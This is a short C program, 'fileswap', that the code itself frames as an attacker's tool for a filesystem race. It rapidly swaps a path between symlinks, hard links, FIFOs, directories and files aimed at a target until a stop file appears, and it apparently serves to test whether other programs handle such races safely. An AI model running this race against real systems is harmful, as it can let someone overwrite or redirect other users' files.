/*
 * fileswap NAME TARGET STOP: an attacker who wants another user's file to be
 * written to. As fast as possible NAME becomes a link to TARGET, a hard link, a
 * FIFO, a directory, a file of the attacker's, and nothing, until STOP is
 * there.
 *
 * Prints how often it was swapped.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

/* Put the next thing there; if that is not allowed, nothing is there. */
static void
lay(const char *name, const char *target, unsigned long number)
{
	int fd;

	switch (number % 6) {
	case 0:
	case 1:
		if (symlink(target, name) == -1)
			return;
		break;
	case 2:
		if (link(target, name) == -1)
			return;
		break;
	case 3:
		if (mkfifo(name, 0666) == -1)
			return;
		break;
	case 4:
		if (mkdir(name, 0777) == -1)
			return;
		break;
	default:
		fd = open(name, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0666);
		if (fd != -1)
			close(fd);
		break;
	}
}

int
main(int argc, char **argv)
{
	unsigned long count = 0;

	if (argc != 4) {
		fprintf(stderr, "usage: fileswap NAME TARGET STOP\n");
		return 64;
	}
	while (access(argv[3], F_OK) == -1) {
		lay(argv[1], argv[2], count++);
		if (unlink(argv[1]) == -1)
			rmdir(argv[1]);
	}
	printf("%lu swaps\n", count);
	return 0;
}
